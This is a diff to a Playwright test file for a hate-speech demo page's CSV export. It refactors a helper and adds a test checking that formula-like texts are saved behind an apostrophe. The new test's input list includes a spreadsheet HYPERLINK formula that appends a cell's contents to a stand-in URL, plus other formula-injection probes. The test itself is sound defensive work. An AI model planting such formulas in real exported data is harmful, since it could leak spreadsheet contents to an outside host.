@@ -10,7 +10,7 @@ from pathlib import Path
 from typing import Any, Final
 
 import pytest
-from playwright.sync_api import Locator, expect
+from playwright.sync_api import Locator, Page, expect
 
 from hatespeech.labels import LABELS
 from tests.support.demo_page import OpenPage, answered, send, send_many
@@ -212,7 +212,7 @@ def test_the_saved_file_holds_what_was_scored_in_the_order_sent(
     assert saved.value.suggested_filename == "scores.csv"
     text = saved.value.path().read_bytes().decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
-    assert [row["text"] for row in rows] == texts
+    assert [row["text"] for row in rows] == [*texts[:3], "'=1+1", *texts[4:]]
     for row, item in zip(rows, items, strict=True):
         assert row["error"] == item.get("error", "")
         assert row["label"] == item.get("label", "")
@@ -227,14 +227,28 @@ def test_the_saved_file_holds_what_was_scored_in_the_order_sent(
 
 def test_a_line_break_in_a_text_stays_in_its_field_of_the_file(open_page: OpenPage) -> None:
     page = open_page()
-    texts = ['two\nlines, "quoted"', "a\r\nb", "\r", "\u2028", "", '"']
+    texts = ['two\nlines, "quoted"', "a\r\nb", "\n", "\u2028", "", '"']
+    rows = rows_of_csv(page, texts)
+    assert [row["text"] for row in rows] == texts
+    assert {row["label"] for row in rows} == {"neutral"}
+
+
+def rows_of_csv(page: Page, texts: list[str]) -> list[dict[str, str]]:
+    """Return the rows of the file that the page would save for these texts."""
     written = page.evaluate(
         'async (items) => (await import("/demo/table.js")).csv(items)',
         [{"text": text, "label": "neutral"} for text in texts],
     )
-    rows = list(csv.DictReader(io.StringIO(written, newline=""), strict=True))
-    assert [row["text"] for row in rows] == texts
-    assert {row["label"] for row in rows} == {"neutral"}
+    return list(csv.DictReader(io.StringIO(written, newline=""), strict=True))
+
+
+def test_a_text_that_a_spreadsheet_would_run_is_saved_behind_an_apostrophe(
+    open_page: OpenPage,
+) -> None:
+    formulas = ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1"]
+    texts = [*formulas, "a=1", " - no", "'=1", "#tag", "😀"]
+    saved = [row["text"] for row in rows_of_csv(open_page(), texts)]
+    assert saved == [*(f"'{text}" for text in formulas), *texts[len(formulas) :]]
 
 
 def test_one_text_is_not_offered_as_a_file(open_page: OpenPage) -> None:
